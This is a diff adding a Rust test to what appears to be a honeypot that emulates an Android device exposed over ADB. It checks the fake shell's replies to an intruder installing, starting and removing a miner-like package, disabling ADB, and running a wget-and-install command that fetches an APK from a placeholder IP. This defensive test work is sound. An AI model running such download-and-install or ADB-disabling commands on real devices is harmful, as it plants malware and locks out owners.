@@ -283,6 +283,39 @@ fn a_shell_that_kills_itself_is_gone() {
 }
 
 #[test]
+fn what_a_visitor_installs_on_a_phone_is_there_and_nothing_else() {
+    let device = Device::new(Flavor::Android, &Persona::example(), &[]);
+    let session = Session::example(Transport::Tcp, 5555);
+    let now = Timestamp::from_micros(1_700_000_000_000_000);
+    let ask = |line: &str| {
+        let mut shell = Shell::for_commands(Arc::clone(&device), 1);
+        let mut out = Output::default();
+        let acts = shell.line(&mut Context::new(&session, now, &mut out), line.as_bytes());
+        let printed = acts.into_iter().filter_map(|act| if let Act::Print(bytes) = act { Some(bytes) } else { None });
+        String::from_utf8(printed.flatten().collect()).unwrap()
+    };
+    let start = "am start -n com.ufo.miner/com.example.test.MainActivity";
+    let started = "Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\n";
+    let missing = "Error type 3\nError: Activity class {com.ufo.miner/com.example.test.MainActivity} does not exist.\n";
+    assert_eq!(ask("pm path com.ufo.miner || echo none"), "none\n");
+    assert_eq!(ask(start), format!("{started}{missing}"));
+    device.install(session.client.ip(), now, &apk::example("com.ufo.miner"));
+    assert_eq!(ask("pm path com.ufo.miner"), "package:/data/app/com.ufo.miner-1/base.apk\n");
+    assert_eq!(ask("pm list packages -3"), "package:com.ufo.miner\n");
+    assert_eq!(ask(start), started);
+    assert_eq!(
+        ask("pm uninstall com.ufo.miner; pm uninstall com.ufo.miner"),
+        "Success\nFailure [DELETE_FAILED_INTERNAL_ERROR]\n"
+    );
+    assert_eq!(ask("settings put global adb_enabled 0; settings get global adb_enabled"), "0\n");
+    assert_eq!(ask("settings get global adb_enabled"), "0\n", "in the next connection as well");
+    assert_eq!(
+        ask("cd /data/local/tmp && wget -q http://192.0.2.9/a.apk && pm install a.apk && pm path com.a.b"),
+        "Success\npackage:/data/app/com.a.b-1/base.apk\n"
+    );
+}
+
+#[test]
 fn a_device_that_is_rebooted_ends_the_session() {
     let session = Session::example(Transport::Tcp, 23);
     let mut shell = Shell::new(device(), 1);
